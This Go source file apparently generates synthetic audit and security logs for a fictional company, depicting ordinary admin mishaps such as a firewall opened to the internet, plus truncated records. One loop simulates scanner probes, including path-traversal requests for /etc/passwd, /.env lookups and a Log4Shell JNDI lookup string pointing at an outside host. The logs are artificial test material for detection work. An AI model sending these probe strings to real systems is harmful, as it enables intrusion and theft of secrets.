package generate

import (
	"fmt"
	"time"
)

// mishaps are small things of an ordinary week that somebody should look at.
func (s *teller) mishaps() {
	w, c := s.w, s.c
	// A database snapshot is lent to the accountants' auditor, and taken back.
	watanabe := s.sso(c.byName["watanabe.yui"], Production, "AdministratorAccess", w.ago(150*hour), true)
	share := func(t time.Time, key string) {
		s.trail(t, watanabe, call{source: "rds", name: "ModifyDBSnapshotAttribute", write: true, params: doc("dBSnapshotIdentifier", "audit-2026", "attributeName", "restore", key, list("210987654321"))})
	}
	share(w.ago(150*hour), "valuesToAdd")
	share(w.ago(102*hour), "valuesToRemove")
	// The guard of a bucket is taken off for a campaign page, and put back the next day.
	ito := s.sso(c.byName["ito.haruka"], Developing, "PowerUserAccess", w.ago(140*hour), true)
	guard := func(t time.Time, on bool) {
		s.trail(t, ito, call{source: "s3", name: "PutBucketPublicAccessBlock", write: true, params: doc("bucketName", "kogarashi-campaign-dev", "publicAccessBlock", "", "PublicAccessBlockConfiguration", doc("BlockPublicAcls", on, "IgnorePublicAcls", on, "BlockPublicPolicy", on, "RestrictPublicBuckets", on))})
	}
	guard(w.ago(140*hour), false)
	guard(w.ago(118*hour), true)
	// The root user of the management account signs in once a quarter, with a second factor.
	root := caller{account: Management, ip: officeTokyo, agent: agentBrowser, json: doc("type", "Root", "principalId", Management, "arn", "arn:aws:iam::"+Management+":root", "accountId", Management, "accessKeyId", "")}
	s.trail(w.ago(100*hour), root, call{source: "signin", name: "ConsoleLogin", kind: "AwsConsoleSignIn", region: "us-east-1", write: true, resp: doc("ConsoleLogin", "Success"), more: doc("LoginTo", "https://console.aws.amazon.com/console/home", "MobileVersion", "No", "MFAUsed", "Yes"), params: ""})
	// A team is given a new member, a token is made, a rule of a branch is loosened for a release.
	novak := c.byName["novak.petr"]
	s.hub(w.ago(126*hour), handle(novak), officeTokyo, "team.add_member", "handbook", "user", handle(c.byName["endo.hikaru"]), "team", githubOrg+"/support")
	s.hub(w.ago(77*hour), handle(novak), officeTokyo, "protected_branch.policy_override", "shop-web", "branch", "main")
	s.hub(w.ago(33*hour), handle(c.byName["kobayashi.riku"]), officeTokyo, "personal_access_token.access_granted", "shop-web")
	// Somebody forgets their password, really.
	mori := c.byName["mori.chika"]
	for i := range 7 {
		s.signIn(w.ago(97*hour).Add(time.Duration(i*40)*time.Second), signIn{who: mori, app: apps[4], from: mori.home, agent: agentBrowser, code: 50126, reason: "Error validating credentials due to invalid username or password."})
	}
	hayashi := c.byName["hayashi.nao"]
	s.directory(w.ago(97*hour).Add(20*time.Minute), hayashi, officeTokyo, "Reset password (by admin)", "UserManagement", list(s.target(mori, list())), "success")
	// A new colleague comes, a guest is invited, a group gets a member.
	inoue := c.byName["inoue.akari"]
	s.directory(w.ago(146*hour), inoue, officeTokyo, "Add user", "UserManagement", list(s.target(c.byName["endo.hikaru"], list(doc("displayName", "AccountEnabled", "oldValue", "[]", "newValue", "[true]")))), "success")
	s.directory(w.ago(75*hour), inoue, officeTokyo, "Invite external user", "UserManagement", list(doc("id", s.uuid(), "displayName", "Auditor", "type", "User", "userPrincipalName", "auditor_audit.example#EXT#@"+domain, "modifiedProperties", list(), "administrativeUnits", list())), "success")
	// An administrator role is switched on for the maintenance of a night.
	s.directory(w.ago(54*hour), inoue, inoue.home, "Add member to role completed (PIM activation)", "RoleManagement", list(doc("id", s.uuid(), "displayName", "Exchange Administrator", "type", "Role", "modifiedProperties", list(), "administrativeUnits", list())), "success")
	// Somebody opens a shell in a pod of their own, by day.
	ito2 := c.byName["ito.haruka"]
	s.kube(w.ago(81*hour), clusterCall{user: ito2.mail(), ip: officeTokyo, agent: "kubectl/v1.33.4 (darwin/arm64) kubernetes/0a1b2c3", groups: []string{"developers", "system:authenticated"}, verb: "create", resource: "pods", sub: "exec", namespace: "shop", name: "catalog-7c9f8d6b4-q8wzk", code: 101})
	s.falco(w.ago(81*hour).Add(time.Second), "Notice", "Terminal shell in container", "shop", "catalog-7c9f8d6b4-q8wzk", "bash", "bash", "app")
	// Dns and routes are changed by hand while the pipeline is broken.
	suzuki := s.sso(c.byName["suzuki.daichi"], Production, "AdministratorAccess", w.ago(55*hour), true)
	s.trail(w.ago(55*hour), suzuki, call{source: "route53", name: "ChangeResourceRecordSets", region: "us-east-1", write: true, params: doc("hostedZoneId", "Z0EXAMPLE00000000001", "changeBatch", doc("changes", list(doc("action", "UPSERT", "resourceRecordSet", doc("name", "api."+domain+".", "type", "CNAME", "tTL", 60)))))})
	s.trail(w.ago(55*hour).Add(8*time.Minute), suzuki, call{source: "ec2", name: "CreateRoute", write: true, params: doc("routeTableId", "rtb-0a1b2c3d4e5f60001", "destinationCidrBlock", "0.0.0.0/0", "gatewayId", "igw-0a1b2c3d4e5f60002"), resp: doc("_return", true)})
	s.trail(w.ago(31*hour), suzuki, call{source: "logs", name: "PutRetentionPolicy", write: true, params: doc("logGroupName", "/ecs/web", "retentionInDays", 7)})
	// Google Cloud: a role is given, a firewall entry opened for a test and closed.
	matsumoto := c.byName["matsumoto.kai"]
	for i, m := range []string{"v1.compute.firewalls.insert", "v1.compute.firewalls.delete"} {
		gc := googleCall{project: MLDev, who: matsumoto.mail(), ip: officeTokyo, agent: agentBrowser, service: "compute.googleapis.com", method: m, permission: "compute.firewalls.create", resource: "projects/" + MLDev + "/global/firewalls/allow-jupyter", kind: doc("type", "gce_firewall_rule", "labels", doc("firewall_rule_id", "5100200300400500600", "project_id", MLDev))}
		if i == 0 {
			gc.request = doc("@type", "type.googleapis.com/compute.firewalls.insert", "name", "allow-jupyter", "direction", "INGRESS", "sourceRanges", list("0.0.0.0/0"), "alloweds", list(doc("IPProtocol", "tcp", "ports", list("22", "8888"))), "network", "https://compute.googleapis.com/compute/v1/projects/"+MLDev+"/global/networks/default")
		}
		s.googleAPI(w.ago(time.Duration(110-i*22)*hour), gc)
	}
	// Strangers try the shop's door.
	for i := range 60 {
		s.request(w.ago(38*hour).Add(time.Duration(i*3)*time.Second), scraperFrom, "GET", []string{"/.env", "/.git/config", "/wp-login.php", "/admin/", "/phpmyadmin/", "/cgi-bin/luci", "/../../etc/passwd", "/api/v1/pods", "/?x=${jndi:ldap://203.0.113.240/a}"}[i%9]+fmt.Sprintf("?%d", i), 404, "Mozilla/5.0 zgrab/0.x")
	}
}

// broken are records that the transport cut: they become dead letters.
func (s *teller) broken() {
	for i, feed := range []Feed{M365, Google, Google, GitHub} {
		t := s.w.ago(time.Duration(130-i*37) * hour)
		switch feed {
		case M365:
			s.mail(t, s.c.byName["abe.shinji"], officeTokyo, "MailItemsAccessed", "MailboxGuid", s.uuid())
		case Google:
			s.googleAPI(t, googleCall{project: DataProd, who: "etl@" + DataProd + ".iam.gserviceaccount.com", ip: natGoogle, service: "storage.googleapis.com", method: "storage.objects.get", permission: "storage.objects.get", read: true, resource: "projects/_/buckets/kogarashi-lake/objects/index.json"})
		case GitHub:
			s.hub(t, handle(s.c.byName["novak.petr"]), officeTokyo, "git.push", "shop-web")
		}
		r := &s.out[len(s.out)-1]
		r.Line, r.Broken = r.Line[:len(r.Line)*2/3], true
	}
}
